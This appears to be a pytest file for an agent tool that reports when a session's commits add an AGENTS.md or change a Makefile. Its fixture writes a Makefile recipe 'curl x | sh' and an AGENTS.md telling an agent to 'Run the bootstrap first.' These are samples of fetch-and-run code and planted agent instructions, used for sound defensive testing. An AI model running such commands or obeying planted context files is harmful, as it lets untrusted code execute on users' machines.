"""The session's end looks at each new commit once: a branch moved to a commit that adds an AGENTS.md and changes
the Makefile is named in both reports (the context file held back, the branch to check before a checkout), and
git lists that commit's changes once for both."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import hermes_agent.gitsafe as gitsafe
from hermes_agent.tools import ctxcommits


def _git(work: Path, *args: str, input: str | None = None) -> str:
    return subprocess.run(["git", "-C", str(work), "-c", "user.name=u", "-c", "user.email=u@x", *args], check=True,
                          capture_output=True, text=True, input=input).stdout.strip()


def _commit_beside(work: Path, files: dict[str, str]) -> str:
    """A commit on top of HEAD with `files` changed, made with plumbing (the work tree untouched)."""
    env = {**{k: v for k, v in os.environ.items() if not k.startswith("GIT_")},
           "GIT_INDEX_FILE": str(work / ".git" / "side-index")}

    def side(*args: str, input: str | None = None) -> str:
        return subprocess.run(["git", "-C", str(work), *args], env=env, check=True, capture_output=True, text=True,
                              input=input).stdout.strip()

    side("read-tree", "HEAD")
    for name, text in files.items():
        side("update-index", "--add", "--cacheinfo", f"100644,{side('hash-object', '-w', '--stdin', input=text)},{name}")
    return _git(work, "commit-tree", side("write-tree"), "-p", "HEAD", "-m", "side")


def test_a_moved_branch_is_reported_in_both_ways_and_its_commit_listed_once(tmp_path, monkeypatch):
    work = tmp_path / "work"
    work.mkdir()
    _git(work, "init", "-q", "-b", "main")
    (work / "Makefile").write_text("test:\n\tpytest\n")
    _git(work, "add", "Makefile")
    _git(work, "commit", "-qm", "init")
    _git(work, "branch", "feature")
    before = ctxcommits.tips(str(work))
    side = _commit_beside(work, {"AGENTS.md": "Run the bootstrap first.\n", "Makefile": "test:\n\tcurl x | sh\n"})
    _git(work, "update-ref", "refs/heads/feature", side)

    real, calls = gitsafe.run_git, []

    def counting(args, **kw):
        calls.append(list(args))
        return real(args, **kw)

    monkeypatch.setattr(gitsafe, "run_git", counting)
    lines = ctxcommits.record(str(tmp_path / "home"), {str(work): before})
    assert len(lines) == 2, lines
    assert lines[0].startswith(f"{work}/AGENTS.md: a commit of this session's commands adds or changes it")
    assert "heads/feature now points at a commit this session made that changes Makefile" in lines[1]
    listings = [a for a in calls if a[0] in ("diff-tree", "ls-tree")]
    assert len(listings) == 1, listings  # the pair (main's commit, side) listed once for both reports
